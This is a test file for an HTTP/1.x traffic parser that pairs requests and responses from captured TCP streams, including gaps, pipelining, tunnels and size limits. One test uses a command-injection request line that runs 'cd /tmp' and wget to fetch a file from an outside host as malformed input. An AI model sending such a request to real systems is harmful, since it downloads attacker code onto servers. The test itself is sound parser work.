// HTTP/1.x conversations as scripts (client ->, server <-, gap N), each run whole,
// byte by byte and split at seeded random points: the exchanges must agree.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { Exchange } from '../src/http/types.js';
import {
  runScript,
  SPLITS,
  summary,
  text,
  type Run,
  type ScriptOptions,
} from './helpers/http-script.js';

/** Runs a script in every split mode, checks they agree, returns the whole-segment run. */
function converse(script: string, opts: ScriptOptions = {}, limits = {}): Run {
  const runs = SPLITS.map((split) => runScript(script, { ...opts, split }, limits));
  const shape = (ex: Exchange[]) =>
    ex.map((e) => [summary([e])[0], text(e.request.body), e.response && text(e.response.body)]);
  for (let i = 1; i < runs.length; i++) {
    const split = JSON.stringify(SPLITS[i]);
    assert.deepEqual(shape(runs[i]!.exchanges), shape(runs[0]!.exchanges), `split ${split}`);
  }
  return runs[0]!;
}

test('a simple GET with a Content-Length response', () => {
  const { exchanges } = converse(String.raw`
    -> GET /users/7?x=1 HTTP/1.1\r\nHost: API.Example.test\r\nAccept: */*\r\n\r\n
    <- HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 9\r\n\r\n{"id": 7}`);
  assert.equal(exchanges.length, 1);
  const e = exchanges[0]!;
  assert.equal(e.request.method, 'GET');
  assert.equal(e.request.uri, '/users/7?x=1');
  assert.equal(e.request.path, '/users/7');
  assert.equal(e.request.query, 'x=1');
  assert.equal(e.request.host, 'api.example.test');
  assert.equal(e.request.httpVersion, '1.1');
  assert.deepEqual(e.request.auth, ['none']);
  assert.equal(e.response?.status, 200);
  assert.equal(e.response?.contentType, 'application/json');
  assert.equal(text(e.response!.body), '{"id": 7}');
  assert.equal(e.response?.bodyLength, 9);
  assert.equal(e.response?.bodyTruncated, false);
  assert.deepEqual(e.client, { ip: '10.0.0.1', port: 40000 });
  assert.deepEqual(e.server, { ip: '10.0.0.2', port: 80 });
  assert.equal(e.packet, 4); // after the handshake
  assert.ok(e.endTs > e.ts);
});

test('pipelined requests are paired in order with their responses', () => {
  const { exchanges } = converse(String.raw`
    -> GET /1 HTTP/1.1\r\n\r\nGET /2 HTTP/1.1\r\n\r\nPOST /3 HTTP/1.1\r\n
    -> Content-Length: 3\r\n\r\nabc
    <- HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\na
    <- HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n
    <- HTTP/1.1 201 Created\r\nContent-Length: 2\r\n\r\nok`);
  assert.deepEqual(summary(exchanges), ['GET /1 -> 200', 'GET /2 -> 404', 'POST /3 -> 201']);
  assert.equal(text(exchanges[2]!.request.body), 'abc');
});

test('HEAD, 204 and 304 end at their headers whatever Content-Length says', () => {
  const { exchanges } = converse(String.raw`
    -> HEAD /f HTTP/1.1\r\n\r\n
    <- HTTP/1.1 200 OK\r\nContent-Length: 45\r\n\r\n
    -> GET /f HTTP/1.1\r\n\r\n
    <- HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nbody
    -> GET /f HTTP/1.1\r\nIf-None-Match: "x"\r\n\r\n
    <- HTTP/1.1 304 Not Modified\r\nContent-Length: 4\r\n\r\n
    -> DELETE /g HTTP/1.1\r\n\r\n
    <- HTTP/1.1 204 No Content\r\nContent-Length: 10\r\n\r\n
    -> GET /h HTTP/1.1\r\n\r\n
    <- HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nhi`);
  assert.deepEqual(summary(exchanges), [
    'HEAD /f -> 200',
    'GET /f -> 200',
    'GET /f -> 304',
    'DELETE /g -> 204',
    'GET /h -> 200',
  ]);
  assert.equal(exchanges[0]!.response!.bodyLength, 0);
  assert.equal(text(exchanges[4]!.response!.body), 'hi');
});

test('100 Continue is interim: the request waits for its final response', () => {
  const { exchanges } = converse(String.raw`
    -> POST /up HTTP/1.1\r\nExpect: 100-continue\r\nContent-Length: 4\r\n\r\n
    <- HTTP/1.1 100 Continue\r\n\r\n
    -> data
    <- HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n
    -> GET /next HTTP/1.1\r\n\r\n
    <- HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n`);
  assert.deepEqual(summary(exchanges), ['POST /up -> 201', 'GET /next -> 200']);
  assert.equal(text(exchanges[0]!.request.body), 'data');
});

test('101 Switching Protocols ends HTTP parsing; the rest is counted, not parsed', () => {
  const run = converse(String.raw`
    -> GET /ws HTTP/1.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n
    <- HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\n
    <- Upgrade: websocket\r\n\r\n\x81\x05hello
    -> GET /not-http HTTP/1.1\r\n\r\n
    <- HTTP/1.1 200 OK\r\n\r\n`);
  assert.deepEqual(summary(run.exchanges), ['GET /ws -> 101']);
  const after = ['\x81\x05hello', 'GET /not-http HTTP/1.1\r\n\r\n', 'HTTP/1.1 200 OK\r\n\r\n'];
  assert.equal(run.engine.stats.tunneledBytes, after.join('').length);
  assert.equal(run.anomalies.counts['http-parse-error'], undefined);
});

test('an Upgrade the server refuses: HTTP/1.1 goes on', () => {
  const { exchanges } = converse(String.raw`
    -> GET /a HTTP/1.1\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n\r\n
    <- HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\na
    -> GET /b HTTP/1.1\r\n\r\n
    <- HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nb`);
  assert.deepEqual(summary(exchanges), ['GET /a -> 200', 'GET /b -> 200']);
});

test('CONNECT with 2xx makes a tunnel; refused with 407 HTTP goes on', () => {
  const tunnel = converse(String.raw`
    -> CONNECT api.example.test:443 HTTP/1.1\r\nHost: api.example.test:443\r\n\r\n\x16\x03\x01
    <- HTTP/1.1 200 Connection established\r\n\r\n
    -> GET /inside HTTP/1.1\r\n\r\n
    <- \x16\x03\x03`);
  assert.deepEqual(summary(tunnel.exchanges), ['CONNECT api.example.test:443 -> 200']);
  assert.equal(tunnel.exchanges[0]!.request.path, '');
  assert.equal(tunnel.anomalies.counts['http-parse-error'], undefined);
  const refused = converse(String.raw`
    -> CONNECT h:443 HTTP/1.1\r\n\r\n
    <- HTTP/1.1 407 Proxy Authentication Required\r\nContent-Length: 0\r\n\r\n
    -> CONNECT h:443 HTTP/1.1\r\nProxy-Authorization: Basic dTpw\r\n\r\n
    <- HTTP/1.1 200 OK\r\n\r\n`);
  assert.deepEqual(summary(refused.exchanges), ['CONNECT h:443 -> 407', 'CONNECT h:443 -> 200']);
  assert.deepEqual(refused.exchanges[1]!.request.auth, ['basic']);
});

test('chunked bodies with extensions and trailers', () => {
  const { exchanges } = converse(String.raw`
    -> POST /c HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n
    -> 3;name=val\r\nabc\r\n0\r\nX-Trailer: t\r\n\r\n
    <- HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n
    <- 4\r\nwxyz\r\n2;a="b c"\r\n12\r\n0\r\n\r\n`);
  assert.deepEqual(summary(exchanges), ['POST /c -> 200']);
  assert.equal(text(exchanges[0]!.request.body), 'abc');
  // Transfer codings other than chunked are not content codings: bytes kept as sent.
  assert.equal(text(exchanges[0]!.response!.body), 'wxyz12');
});

test('an HTTP/1.0 response without length ends when the server closes', () => {
  const { exchanges } = converse(String.raw`
    -> GET /old HTTP/1.0\r\n\r\n
    <- HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\nall of this
    <- \r\nuntil close
    fin <-
    fin ->`);
  assert.deepEqual(summary(exchanges), ['GET /old -> 200']);
  assert.equal(text(exchanges[0]!.response!.body), 'all of this\r\nuntil close');
  assert.equal(exchanges[0]!.response!.bodyTruncated, false);
});

test('a close-delimited body also ends when the capture ends', () => {
  const { exchanges } = converse(String.raw`
    -> GET /stream HTTP/1.1\r\n\r\n
    <- HTTP/1.1 200 OK\r\n\r\npartial`);
  assert.deepEqual(summary(exchanges), ['GET /stream -> 200']);
  assert.equal(text(exchanges[0]!.response!.body), 'partial');
});

test('a gap inside a body of known length: status kept, body cut, the next pairs', () => {
  const run = converse(String.raw`
    -> GET /1 HTTP/1.0\r\n\r\n
    <- HTTP/1.0 200 OK\r\nContent-Length: 30\r\n\r\n0123456789
    gap <- 10
    <- 0123456789
    -> GET /2 HTTP/1.0\r\n\r\n
    <- HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok`);
  assert.deepEqual(summary(run.exchanges), ['GET /1 -> 200', 'GET /2 -> 200']);
  const first = run.exchanges[0]!.response!;
  assert.equal(first.bodyLength, 30);
  assert.equal(first.bodyTruncated, true);
  assert.equal(text(first.body), '0123456789');
  assert.equal(run.anomalies.counts['tcp-gap'], 1);
  assert.equal(run.anomalies.counts['http-resync'], undefined);
  assert.equal(run.engine.stats.ackedGapBytes, 10);
});

test('a whole response lost in a gap: its request gets null, the next pairs (ack evidence)', () => {
  const run = converse(String.raw`
    -> GET /1 HTTP/1.1\r\n\r\n
    <- HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\na
    -> GET /2 HTTP/1.1\r\n\r\n
    gap <- 40
    -> GET /3 HTTP/1.1\r\n\r\n
    <- HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nc`);
  assert.deepEqual(summary(run.exchanges), ['GET /1 -> 200', 'GET /2 -> null', 'GET /3 -> 200']);
  assert.equal(text(run.exchanges[2]!.response!.body), 'c');
});

test('a gap that ends mid-response: the parser resyncs on the next status line', () => {
  const run = converse(String.raw`
    -> GET /1 HTTP/1.1\r\n\r\n
    gap <- 20
    <- ength: 3\r\n\r\nabc
    -> GET /2 HTTP/1.1\r\n\r\n
    <- HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nbb`);
  assert.deepEqual(summary(run.exchanges), ['GET /1 -> null', 'GET /2 -> 200']);
  assert.equal(run.anomalies.counts['http-resync'], 'ength: 3\r\n\r\nabc'.length);
});

test('a request lost in a gap: its response is unpaired, the next request pairs', () => {
  const run = converse(String.raw`
    -> GET /1 HTTP/1.1\r\n\r\n
    <- HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\na
    gap -> 30
    <- HTTP/1.1 500 Lost\r\nContent-Length: 1\r\n\r\nx
    -> GET /3 HTTP/1.1\r\n\r\n
    <- HTTP/1.1 201 Created\r\nContent-Length: 1\r\n\r\nc`);
  assert.deepEqual(summary(run.exchanges), ['GET /1 -> 200', 'GET /3 -> 201']);
  assert.equal(run.anomalies.counts['http-unpaired-response'], 1);
});

test('pipelined requests with one response lost: the fewest responses are assumed lost', () => {
  const run = converse(String.raw`
    -> GET /1 HTTP/1.1\r\n\r\nGET /2 HTTP/1.1\r\n\r\nGET /3 HTTP/1.1\r\n\r\n
    gap <- 38
    <- HTTP/1.1 202 Accepted\r\nContent-Length: 0\r\n\r\n
    <- HTTP/1.1 203 OK\r\nContent-Length: 0\r\n\r\n`);
  assert.deepEqual(summary(run.exchanges), ['GET /1 -> null', 'GET /2 -> 202', 'GET /3 -> 203']);
});

test('garbage after a complete request loses neither the request nor its response', () => {
  const run = converse(String.raw`
    -> GET / HTTP/1.1\r\n
    -> Host: zeek.org\r\n\r\n
    <- HTTP/1.1 301 Moved Permanently\r\nContent-Length: 3\r\n\r\nabc
    -> T / HTTP\r\n\r\n
    <- HTTP/1.1 400 Bad Request\r\nContent-Length: 2\r\nConnection: close\r\n\r\nno
    -> T / HTTP\r\n\r\n`);
  assert.deepEqual(summary(run.exchanges), ['GET / -> 301']);
  assert.equal(run.exchanges[0]!.request.host, 'zeek.org');
  assert.ok((run.anomalies.counts['http-unpaired-response'] ?? 0) >= 1);
});

test('a parse error in a response resyncs on the next status line', () => {
  const run = converse(String.raw`
    -> GET /1 HTTP/1.1\r\n\r\n
    <- HTTP/1.1 200 OK\r\nContent-Length: x1\r\n\r\nabc
    -> GET /2 HTTP/1.1\r\n\r\n
    <- HTTP/1.1 204 No Content\r\n\r\n`);
  assert.deepEqual(summary(run.exchanges), ['GET /1 -> 200', 'GET /2 -> 204']);
  assert.equal(run.anomalies.counts['http-parse-error'], 1);
  assert.equal(run.exchanges[0]!.response!.bodyTruncated, true);
});

test('a capture that starts mid-response skips to the next message', () => {
  const run = converse(
    String.raw`
    <- tail of an earlier body\r\n
    -> GET /next HTTP/1.1\r\n\r\n
    <- HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n`,
    { handshake: false },
  );
  assert.deepEqual(summary(run.exchanges), ['GET /next -> 200']);
  assert.equal(run.engine.stats.unparsedBytes, 'tail of an earlier body\r\n'.length);
});

test('the client is the side that sent the SYN when the server speaks first', () => {
  const { exchanges } = converse(String.raw`
    <- SSH-2.0-OpenSSH_8.9p1 Ubuntu-3\r\n
    -> GET / HTTP/1.1\r\nHost: h\r\n\r\n`);
  assert.deepEqual(summary(exchanges), ['GET / -> null']);
  assert.deepEqual(exchanges[0]!.client, { ip: '10.0.0.1', port: 40000 });
});

test('no handshake: a status line marks the server, else the higher port is the client', () => {
  const statusFirst = converse(
    String.raw`
    <- HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n
    -> GET /x HTTP/1.1\r\n\r\n
    <- HTTP/1.1 204 No Content\r\n\r\n`,
    {
      handshake: false,
      client: { ip: '10.0.0.1', port: 8080 },
      server: { ip: '10.0.0.2', port: 9090 },
    },
  );
  assert.deepEqual(summary(statusFirst.exchanges), ['GET /x -> 204']);
  assert.equal(statusFirst.anomalies.counts['http-unpaired-response'], 1);
  const portRule = converse(
    String.raw`
    <- \x00\x01binary
    -> GET /y HTTP/1.1\r\n\r\n`,
    {
      handshake: false,
      client: { ip: '10.0.0.1', port: 50000 },
      server: { ip: '10.0.0.2', port: 8000 },
    },
  );
  assert.deepEqual(summary(portRule.exchanges), ['GET /y -> null']);
});

test('requests never answered are reported at the end with response null', () => {
  const { exchanges } = converse(String.raw`
    -> GET /a HTTP/1.1\r\n\r\n
    -> GET /b HTTP/1.1\r\n\r\n`);
  assert.deepEqual(summary(exchanges), ['GET /a -> null', 'GET /b -> null']);
});

test('the pending-request queue is bounded', () => {
  const run = converse(
    String.raw`
    -> GET /1 HTTP/1.1\r\n\r\nGET /2 HTTP/1.1\r\n\r\nGET /3 HTTP/1.1\r\n\r\n`,
    {},
    { maxPendingRequests: 2 },
  );
  assert.deepEqual(summary(run.exchanges), ['GET /1 -> null', 'GET /2 -> null', 'GET /3 -> null']);
  assert.equal(run.anomalies.counts['http-pending-limit'], 1);
});

test('a request given up past the cap still frames its response (HEAD: no body)', () => {
  const run = converse(
    String.raw`
    -> HEAD /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\n
    <- HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\n
    <- HTTP/1.1 201 Created\r\nContent-Length: 2\r\n\r\nok`,
    {},
    { maxPendingRequests: 1 },
  );
  assert.deepEqual(summary(run.exchanges), ['HEAD /a -> null', 'GET /b -> 201']);
  assert.equal(text(run.exchanges[1]!.response!.body), 'ok');
  assert.equal(run.anomalies.counts['http-pending-limit'], 1);
});

test('a request line with spaces in its target is taken up to the first space', () => {
  const { exchanges } = converse(String.raw`
    -> GET /shell?cd+/tmp;wget+ http://203.0.113.9/x HTTP/1.1\r\nHost: 127.0.0.1:80\r\n\r\n`);
  assert.deepEqual(summary(exchanges), ['GET /shell?cd+/tmp;wget+ -> null']);
});

test('a request line cut by the snap length is salvaged', () => {
  const run = converse(String.raw`
    -> GET /images/logo.gif HTT
    gap -> 400
    <- HTTP/1.1 200 OK\r\nDa
    gap <- 1400`);
  assert.deepEqual(summary(run.exchanges), ['GET /images/logo.gif -> 200']);
  assert.equal(run.exchanges[0]!.request.bodyTruncated, true);
});

test('an extension method and a lowercase Host are kept as sent', () => {
  const { exchanges } = converse(String.raw`
    -> PROPFIND /dav/ HTTP/1.1\r\nhost: Files.Example\r\nDepth: 1\r\n\r\n
    <- HTTP/1.1 207 Multi-Status\r\nContent-Length: 0\r\n\r\n`);
  assert.deepEqual(summary(exchanges), ['PROPFIND /dav/ -> 207']);
  assert.equal(exchanges[0]!.request.host, 'files.example');
});

test('header blocks over the limit are dropped and parsing resyncs', () => {
  const big = 'X-Pad: ' + 'a'.repeat(300) + '\\r\\n';
  const run = converse(
    `-> GET /big HTTP/1.1\\r\\n${big}${big}\\r\\n
     -> GET /small HTTP/1.1\\r\\n\\r\\n
     <- HTTP/1.1 200 OK\\r\\nContent-Length: 0\\r\\n\\r\\n`,
    {},
    { maxHeaderBytes: 256 },
  );
  assert.deepEqual(summary(run.exchanges), ['GET /small -> 200']);
  assert.equal(run.anomalies.counts['header-over-limit'], 1);
});

test('many small messages in one segment do not add up to a header over the limit', () => {
  const requests = Array.from({ length: 20 }, (_, i) => `GET /r${i} HTTP/1.1\\r\\n\\r\\n`);
  const run = runScript(`-> ${requests.join('')}`, {}, { maxHeaderBytes: 256 });
  assert.equal(run.exchanges.length, 20);
  assert.equal(run.anomalies.counts['header-over-limit'], undefined);
});

test('bodies beyond the kept size are counted in full and marked truncated', () => {
  const run = converse(
    String.raw`
    -> POST /p HTTP/1.1\r\nContent-Length: 10\r\n\r\n0123456789
    <- HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok`,
    {},
    { maxBodyBytesKept: 4 },
  );
  const req = run.exchanges[0]!.request;
  assert.equal(text(req.body), '0123');
  assert.equal(req.bodyLength, 10);
  assert.equal(req.bodyTruncated, true);
  assert.equal(run.anomalies.counts['body-over-limit'], 1);
});
